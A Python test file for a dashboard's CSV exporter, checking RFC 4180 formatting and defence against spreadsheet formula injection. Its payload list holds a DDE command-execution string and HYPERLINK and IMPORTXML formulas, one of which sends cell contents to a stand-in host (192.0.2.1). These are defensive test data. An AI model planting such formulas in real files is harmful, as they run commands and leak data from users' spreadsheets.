"""CSV files: what RFC 4180 asks, what a spreadsheet must not run, and numbers that stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard_app.exports import FORMATS, About, CsvOptions
from dashboard_app.exports.csv import NOTE, neutralise, write_csv
from tests.dashboard_app.exports.results import DAY, ORDERS, REVENUE, VENDOR, result

_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
_PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1","x")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://192.0.2.1/?",A1),"//a")',
    "1;DROP",
)
INJECTIONS = tuple(start + payload for start in _STARTS for payload in _PAYLOADS)


def _text(columns: list[object], rows: list[dict[str, object]], options: CsvOptions | None = None) -> str:
    return b"".join(write_csv(result(columns, rows), options)).decode()  # type: ignore[arg-type]


def test_a_file_has_one_header_line_of_field_names_and_ends_its_lines_with_crlf() -> None:
    text = _text([DAY, REVENUE], [{"day": "2026-11-01", "revenue": 1234.5}, {"day": "2026-11-02", "revenue": -3}])
    assert text == "day,revenue\r\n2026-11-01,1234.5\r\n2026-11-02,-3\r\n"


def test_no_value_is_empty_and_empty_text_is_quoted() -> None:
    text = _text([VENDOR, REVENUE], [{"vendor": None, "revenue": None}, {"vendor": "", "revenue": 0}])
    assert text == 'vendor,revenue\r\n,\r\n"",0\r\n'


@pytest.mark.parametrize("name", ["a,b", 'a"b', "a\r\nb", "a\nb", " a ", "é漢字🙂", "שלום", "a;b", "a\tb", "'", '"""', "\u2028x"])
def test_any_text_comes_back_as_it_was(name: str) -> None:
    rows = list(csv.DictReader(io.StringIO(_text([VENDOR, ORDERS], [{"vendor": name, "orders": 7}]), newline="")))
    assert rows == [{"vendor": name, "orders": "7"}]


def test_there_are_more_than_sixty_ways_to_start_a_formula() -> None:
    assert len(INJECTIONS) == 72


@pytest.mark.parametrize("text", INJECTIONS)
def test_for_people_no_text_can_be_taken_for_a_formula(text: str) -> None:
    written = _text([VENDOR, REVENUE], [{"vendor": text, "revenue": -12.5}], CsvOptions(safe=True))
    cell, number = list(csv.reader(io.StringIO(written, newline="")))[1]
    assert cell == f"'{text}"
    assert number == "-12.5"


@pytest.mark.parametrize("text", INJECTIONS)
def test_for_programs_text_is_raw(text: str) -> None:
    written = _text([VENDOR], [{"vendor": text}])
    assert list(csv.reader(io.StringIO(written, newline="")))[1] == [text]


def test_a_file_with_neutralised_text_says_so() -> None:
    header = _text([VENDOR, REVENUE], [{"vendor": "=1+1", "revenue": 1}], CsvOptions(safe=True)).splitlines()[0]
    assert header == f"vendor {NOTE},revenue"
    assert _text([VENDOR], [{"vendor": "Alpha"}], CsvOptions(safe=True)).splitlines()[0] == "vendor"


@pytest.mark.parametrize("text", ["Alpha", "a=b", "3 - 2", "e@mail", "\uff21\uff22", ""])
def test_plain_text_is_not_touched(text: str) -> None:
    assert neutralise(text) == text


def test_blanks_before_a_formula_do_not_hide_it() -> None:
    assert neutralise(" =1+1") == "' =1+1"
    assert neutralise("\u00a0\ufeff=1+1") == "'\u00a0\ufeff=1+1"


def test_a_file_for_people_begins_with_a_byte_order_mark_and_one_for_programs_does_not() -> None:
    answer = result([REVENUE], [{"revenue": 1}])
    assert b"".join(FORMATS["csv"].write_for_people(answer, About())).startswith(b"\xef\xbb\xbfrevenue")
    assert b"".join(FORMATS["csv"].write(answer, About())).startswith(b"revenue")


def test_the_separator_can_be_chosen() -> None:
    assert _text([VENDOR, REVENUE], [{"vendor": "a;b", "revenue": 1}], CsvOptions(separator=";")) == 'vendor;revenue\r\n"a;b";1\r\n'


def test_a_long_file_comes_in_chunks() -> None:
    rows = [{"orders": number} for number in range(2_500)]
    chunks = list(write_csv(result([ORDERS], rows)))
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 1000, 1000, 500]


def test_json_is_the_answer_itself() -> None:
    answer = result([REVENUE], [{"revenue": 1.5}])
    assert b"".join(FORMATS["json"].write(answer, About())) == answer.to_json()
